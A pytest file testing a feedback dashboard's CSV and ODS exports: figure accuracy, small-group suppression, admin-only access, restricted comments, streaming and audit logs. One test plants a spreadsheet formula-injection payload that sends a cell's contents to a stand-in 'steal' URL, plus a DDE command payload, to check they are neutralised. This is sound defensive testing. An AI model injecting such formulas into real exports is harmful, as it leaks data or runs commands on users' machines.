"""Staff exports: the dashboard's figures in CSV and ODS, responses for admins, every one logged."""

from __future__ import annotations

import csv
import inspect
import io
import zipfile
from datetime import datetime, timezone
from xml.etree import ElementTree

import pytest
from sqlalchemy import func, select

from feedback import exports, questionnaires
from feedback.models import ExportLog, Inspection, Questionnaire, QuestionnaireVersion, Response, StaffUser
from feedback.responses import store_response
from feedback.results import Filters, parse_period, questionnaire_results
from feedback.web import exports as export_views
from tests.helpers.pages import parse

PASSWORD = "correct horse battery staple"
ANALYST = "analyst@justice.gov.uk"
ADMIN = "admin@justice.gov.uk"
BOM = "\ufeff"
FIGURES = ("n", "count", "percent", "positive_percent", "beside_percent", "mentions",
           "previous_percent", "change_points")
PARAGRAPH_1_19 = {"planning_clarity": ("96", "48"), "pre_inspection_planning": ("98", "48"),
                  "team_conduct": ("91", "47"), "requests_reasonable": ("98", "48"),
                  "overall_management": ("94", "48")}

ODS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


# --- Fixtures and helpers ------------------------------------------------------------------

@pytest.fixture
def demo(demo_returns, runner):
    for email, role in ((ANALYST, "analyst"), (ADMIN, "admin")):
        added = runner.invoke(args=["users", "add", email, "--role", role, "--password-stdin"],
                              input=PASSWORD + "\n")
        assert added.exit_code == 0, added.output
    return demo_returns


def signed_in(app, email: str):
    """Return a test client signed in through the real sign-in form."""
    client = app.test_client()
    token = parse(client.get("/staff/sign-in")).csrf_token()
    response = client.post("/staff/sign-in", data={"csrf_token": token, "email": email,
                                                   "password": PASSWORD})
    assert response.status_code == 302, response.status_code
    return client


def csv_table(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/csv"
    data = response.get_data()
    assert data.startswith(BOM.encode("utf-8")), "Excel needs the byte order mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8")[1:], newline="")))


def ods_cells(response) -> list[list[tuple[str | None, str]]]:
    """Read every row of the first sheet as (value type, value) cells."""
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.oasis.opendocument.spreadsheet"
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        assert archive.namelist()[0] == "mimetype"
        assert archive.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
        root = ElementTree.fromstring(archive.read("content.xml"))
    rows = []
    for row in root.iter(f"{{{ODS['table']}}}table-row"):
        cells = []
        for cell in row.findall(f"{{{ODS['table']}}}table-cell"):
            kind = cell.get(f"{{{ODS['office']}}}value-type")
            if kind == "float":
                cells.append((kind, cell.get(f"{{{ODS['office']}}}value")))
            elif kind == "string":
                paragraphs = cell.findall(f"{{{ODS['text']}}}p")
                cells.append((kind, "\n".join("".join(p.itertext()) for p in paragraphs)))
            else:
                cells.append((None, ""))
        rows.append(cells)
    return rows


def ods_table(response) -> list[dict[str, str]]:
    header, *rows = ods_cells(response)
    names = [value for _, value in header]
    return [dict(zip(names, (value for _, value in row), strict=True)) for row in rows]


def cell(value) -> str:
    return "" if value is None else str(value)


def assert_same_figures(rows: list[dict[str, str]], data: dict) -> None:
    """Every figure of a results to_dict() is in the file, and the file has no other number."""
    by_key = {(r["row"], r["question"], r["option"]): r for r in rows}
    assert len(by_key) == len(rows), "one row per figure"
    mark = lambda suppressed: "suppressed" if suppressed else ""  # noqa: E731
    responses = by_key[("responses", "", "")]
    assert (responses["n"], responses["suppressed"]) == (cell(data["responses"]), mark(data["suppressed"]))
    expected_numbers = 0 if data["responses"] is None else 1
    for q in data["questions"]:
        row = by_key[("question", q["code"], "")]
        assert row["suppressed"] == mark(q["suppressed"]), q["code"]
        for name in ("n", "positive_percent", "beside_percent", "mentions", "previous_percent",
                     "change_points"):
            assert row[name] == cell(q[name]), (q["code"], name)
            expected_numbers += q[name] is not None
        assert row["positive_options"] == ";".join(q["positive_options"])
        for option in q["distribution"]:
            found = by_key[("option", q["code"], option["option"])]
            assert (found["count"], found["percent"]) == (cell(option["count"]), cell(option["percent"]))
            expected_numbers += (option["count"] is not None) + (option["percent"] is not None)
        for reason, count in q["exclusions"].items():
            assert by_key[("excluded", q["code"], reason)]["count"] == cell(count)
            expected_numbers += 1
    numbers_in_file = sum(1 for r in rows for name in FIGURES if r[name] != "")
    assert numbers_in_file == expected_numbers


def assert_suppressed_rows_are_empty(rows: list[dict[str, str]]) -> int:
    hidden = [r for r in rows if r["suppressed"] == "suppressed"]
    for row in hidden:
        assert all(row[name] == "" for name in FIGURES), row
    return len(hidden)


def add_response(app, db, code: str, answers: dict, key: str, inspection: str | None = None,
                 when: datetime = datetime(2011, 9, 1, 12, tzinfo=timezone.utc)) -> int:
    inspection_id = None
    if inspection:
        inspection_id = db.execute(select(Inspection.id).where(Inspection.code == inspection)).scalar_one()
    with app.app_context():
        response = store_response(db, questionnaires.get(code), answers, submission_key=key,
                                  channel="web", language="en", inspection_id=inspection_id, now=when)
    return response.id


def count_responses(db, code: str) -> int:
    return db.execute(
        select(func.count(Response.id))
        .join(QuestionnaireVersion, Response.questionnaire_version_id == QuestionnaireVersion.id)
        .join(Questionnaire, QuestionnaireVersion.questionnaire_id == Questionnaire.id)
        .where(Questionnaire.code == code)
    ).scalar_one()


# --- Results exports -----------------------------------------------------------------------

def test_results_csv_and_ods_carry_exactly_the_dashboards_figures(app, demo):
    client = signed_in(app, ANALYST)
    expected = questionnaire_results(
        demo, "post-inspection-evaluation", Filters(period=parse_period("2011-12")), viewer="staff"
    ).to_dict()

    response = client.get("/staff/results/post-inspection-evaluation/export.csv?period=2011-12")
    assert response.headers["Content-Disposition"] == 'attachment; filename=post-inspection-evaluation-2011-12.csv'
    rows = csv_table(response)
    assert list(rows[0]) == list(exports.RESULTS_HEADER)
    assert_same_figures(rows, expected)
    figures = {r["question"]: (r["positive_percent"], r["n"]) for r in rows if r["row"] == "question"}
    assert {code: figures[code] for code in PARAGRAPH_1_19} == PARAGRAPH_1_19
    assert all(r["period"] == "2011-12" for r in rows)

    ods = client.get("/staff/results/post-inspection-evaluation/export.ods?period=2011-12")
    assert ods.headers["Content-Disposition"] == 'attachment; filename=post-inspection-evaluation-2011-12.ods'
    sheet = ods_table(ods)
    assert_same_figures(sheet, expected)
    assert sheet == rows, "the CSV and the ODS hold the same cells"
    # Numbers are numbers in the spreadsheet, not text.
    header, *cells = ods_cells(ods)
    column = [value for _, value in header].index("positive_percent")
    overall = next(r for r in cells if ("string", "overall_management") in r and r[4][1] == "question")
    assert overall[column] == ("float", "94")


def test_breakdowns_export_the_total_and_each_group(app, demo):
    client = signed_in(app, ANALYST)
    rows = csv_table(client.get("/staff/results/offender-manager/export.csv?period=2011-12&by=region"))
    groups = {r["group"] for r in rows}
    assert "total" in groups and len(groups) > 2
    assert {r["group_by"] for r in rows} == {"region"}
    total = [r for r in rows if r["group"] == "total"]
    expected = questionnaire_results(demo, "offender-manager", Filters(period=parse_period("2011-12")),
                                     viewer="staff").to_dict()
    responses = next(r for r in total if r["row"] == "responses")
    assert responses["n"] == str(expected["responses"])
    assert_suppressed_rows_are_empty(rows)


@pytest.mark.parametrize("query", [
    "inspection=cci-2011-reading",  # nine responses: nothing shown
    "inspection=cci-2011-bournemouth-poole-reinspection",  # eleven: some figures hidden
    "period=2011-04-01..2011-04-03",
])
def test_suppressed_groups_show_no_number_in_csv_or_ods(app, demo, query):
    client = signed_in(app, ANALYST)
    rows = csv_table(client.get(f"/staff/results/young-people/export.csv?{query}"))
    assert assert_suppressed_rows_are_empty(rows) > 0
    assert assert_suppressed_rows_are_empty(ods_table(client.get(f"/staff/results/young-people/export.ods?{query}"))) > 0
    filters = dict(part.split("=") for part in query.split("&"))
    if "period" in filters:
        filters["period"] = parse_period(filters["period"])
    assert_same_figures(rows, questionnaire_results(demo, "young-people", Filters(**filters),
                                                    viewer="staff").to_dict())
    if query == "inspection=cci-2011-reading":
        assert all(r["suppressed"] == "suppressed" for r in rows)


def test_bad_filters_are_refused_not_a_server_error(app, demo):
    client = signed_in(app, ANALYST)
    assert client.get("/staff/results/young-people/export.csv?period=2011-13").status_code == 400
    assert client.get("/staff/results/young-people/export.csv?channel=fax").status_code == 400
    assert client.get("/staff/results/young-people/export.csv?by=shoe_size").status_code == 400
    assert client.get("/staff/results/young-people/export.csv?equality=gender").status_code == 400
    assert client.get("/staff/results/nothing/export.csv").status_code == 404
    assert client.get("/staff/results/young-people/export.xlsx").status_code == 404
    assert not demo.execute(select(ExportLog)).scalars().all()


# --- Responses exports ---------------------------------------------------------------------

def test_only_admins_export_responses(app, demo):
    anonymous = app.test_client().get("/staff/results/young-people/responses.csv")
    assert anonymous.status_code == 302 and anonymous.headers["Location"].startswith("/staff/sign-in")
    analyst = signed_in(app, ANALYST)
    assert analyst.get("/staff/results/young-people/responses.csv").status_code == 403
    assert analyst.get("/staff/results/young-people/responses.ods").status_code == 403
    admin = signed_in(app, ADMIN)
    assert admin.get("/staff/results/young-people/responses.csv?period=2011-12").status_code == 200
    assert admin.get("/staff/results/young-people/responses.ods?period=2011-12").status_code == 200
    assert demo.execute(select(func.count(ExportLog.id))).scalar_one() == 2


def test_responses_export_one_row_per_response_with_a_column_per_question(app, demo):
    admin = signed_in(app, ADMIN)
    response = admin.get("/staff/results/adult-service-user/responses.csv?period=2011-12")
    assert response.headers["Content-Disposition"] == 'attachment; filename=adult-service-user-2011-12-responses.csv'
    rows = csv_table(response)
    definition = questionnaires.get("adult-service-user")
    closed = [q.code for q in definition.all_questions if q.kind != "text"]
    assert list(rows[0])[:len(exports.RESPONSE_FIELDS)] == list(exports.RESPONSE_FIELDS)
    assert [c for c in closed if c not in rows[0]] == []
    assert "comments" not in rows[0], "adult service users' comments are restricted"
    expected = questionnaire_results(demo, "adult-service-user", Filters(period=parse_period("2011-12")),
                                     viewer="staff")
    assert len(rows) == expected.responses
    assert len({r["response_id"] for r in rows}) == len(rows)
    assert all("2011-04-01" <= r["submitted_on"] <= "2012-03-31" for r in rows)
    assert {r["channel"] for r in rows} <= {"web", "kiosk", "paper"}
    options = set(definition.question("help_received").scale.codes)
    joined = [r["help_received"] for r in rows if ";" in r["help_received"]]
    assert joined and all(set(value.split(";")) <= options for value in joined)
    # The answers in the file count to the published figure.
    less_likely = [r["less_likely"] for r in rows if r["less_likely"] in ("yes", "no")]
    assert round(100 * less_likely.count("yes") / len(less_likely)) == expected.question("less_likely").positive_percent


def test_formulas_are_neutralised_and_restricted_comments_never_leave(app, demo):
    hyperlink = '=HYPERLINK("http://example.com/steal?"&A1,"Click")'
    command = "+cmd|' /C calc'!A0"
    first = add_response(app, demo, "post-inspection-evaluation",
                         {"planning_clarity": "fully", "comments": hyperlink}, "test-formula-1",
                         inspection="omi2-2011-greater-manchester")
    second = add_response(app, demo, "post-inspection-evaluation",
                          {"planning_clarity": "mainly", "comments": command}, "test-formula-2",
                          inspection="omi2-2011-greater-manchester")
    secret = "SECRET-VICTIM-WORDS only for the staff dashboard"
    add_response(app, demo, "youth-victims", {"service_satisfaction": "yes", "comments": secret},
                 "test-victim-1")
    admin = signed_in(app, ADMIN)

    rows = {r["response_id"]: r for r in csv_table(
        admin.get("/staff/results/post-inspection-evaluation/responses.csv?period=2011-12"))}
    assert rows[str(first)]["comments"] == "'" + hyperlink
    assert rows[str(second)]["comments"] == "'" + command
    assert rows[str(first)]["planning_clarity"] == "fully"
    assert rows[str(first)]["inspection"] == "omi2-2011-greater-manchester"
    assert rows[str(first)]["programme"] == "OMI2"

    header, *cells = ods_cells(admin.get("/staff/results/post-inspection-evaluation/responses.ods?period=2011-12"))
    names = [value for _, value in header]
    by_id = {row[0][1]: row for row in cells}
    assert by_id[str(first)][0][0] == "float"
    assert by_id[str(first)][names.index("comments")] == ("string", hyperlink)
    assert by_id[str(second)][names.index("comments")] == ("string", command)

    for fmt in ("csv", "ods"):
        for path in (f"/staff/results/youth-victims/responses.{fmt}",
                     f"/staff/results/youth-victims/responses.{fmt}?period=2011-12",
                     f"/staff/results/youth-victims/export.{fmt}"):
            response = admin.get(path)
            assert response.status_code == 200
            data = response.get_data()
            if fmt == "ods":
                with zipfile.ZipFile(io.BytesIO(data)) as archive:
                    data = b"".join(archive.read(name) for name in archive.namelist())
            assert b"SECRET-VICTIM" not in data, path
    victims = csv_table(admin.get("/staff/results/youth-victims/responses.csv"))
    assert "comments" not in victims[0] and "service_satisfaction" in victims[0]


def test_each_export_is_logged_with_who_and_what(app, demo):
    analyst = signed_in(app, ANALYST)
    rows = csv_table(analyst.get("/staff/results/post-inspection-evaluation/export.csv?period=2011-12&programme=OMI2"))
    admin = signed_in(app, ADMIN)
    listed = csv_table(admin.get("/staff/results/post-inspection-evaluation/responses.csv?period=2011-12"))
    admin.get("/staff/results/case-manager/export.ods?by=quarter&period=2011-12")

    users = {u.email: u.id for u in demo.execute(select(StaffUser)).scalars()}
    logs = demo.execute(select(ExportLog).order_by(ExportLog.id)).scalars().all()
    assert [(log.staff_user_id, log.kind, log.questionnaire_code, log.format) for log in logs] == [
        (users[ANALYST], "results", "post-inspection-evaluation", "csv"),
        (users[ADMIN], "responses", "post-inspection-evaluation", "csv"),
        (users[ADMIN], "results", "case-manager", "ods"),
    ]
    assert logs[0].filters["period"]["code"] == "2011-12" and logs[0].filters["programme"] == "OMI2"
    assert logs[0].rows == len(rows)
    assert logs[1].rows == len(listed) == 48
    assert logs[2].filters["by"] == "quarter"
    assert all(log.at is not None for log in logs)


def test_a_csv_of_every_response_is_streamed_row_by_row(app, demo):
    admin = signed_in(app, ADMIN)
    response = admin.get("/staff/results/young-people/responses.csv")
    assert response.is_streamed
    assert "Content-Length" not in response.headers, "a streamed body has no length up front"
    chunks = [chunk.decode("utf-8") for chunk in response.response]
    response.close()
    assert chunks[0].startswith(BOM) and chunks[0].count("\r\n") == 1, "the header line goes first, alone"
    assert len(chunks) > 3, "then the rows, a chunk at a time"
    assert all(chunk.endswith("\r\n") and len(chunk) < 80 * 1024 for chunk in chunks)
    lines = "".join(chunks).split("\r\n")
    assert len([line for line in lines if line]) - 1 == count_responses(demo, "young-people")
    # Read through a server-side cursor, never loaded whole.
    for function in (exports.response_rows, export_views.responses_export):
        source = inspect.getsource(function)
        assert ".all()" not in source and ".fetchall()" not in source
    assert "yield_per" in inspect.getsource(exports.response_rows)


def test_the_export_command_writes_the_dashboards_figures_and_logs_it(app, runner, tmp_path, demo_returns):
    from sqlalchemy import select

    from feedback.models import ExportLog

    added = runner.invoke(args=["users", "add", "analyst@justice.gov.uk", "--role", "analyst", "--password-stdin"],
                          input="correct horse battery staple\n")
    assert added.exit_code == 0
    target = tmp_path / "pie.csv"
    result = runner.invoke(args=["export", "--questionnaire", "post-inspection-evaluation", "--period", "2011-12",
                                 "--staff-email", "analyst@justice.gov.uk", "--output", str(target)])
    assert result.exit_code == 0, result.output
    text = target.read_text(encoding="utf-8")
    assert text.startswith("\ufeff") and "overall_management" in text and ",94," in text
    refused = runner.invoke(args=["export", "--questionnaire", "youth-victims", "--responses",
                                  "--staff-email", "analyst@justice.gov.uk"])
    assert refused.exit_code != 0 and "only admins" in refused.output
    with app.extensions["database"].session() as session:
        [log] = session.scalars(select(ExportLog)).all()
        assert (log.kind, log.questionnaire_code, log.format) == ("results", "post-inspection-evaluation", "csv")
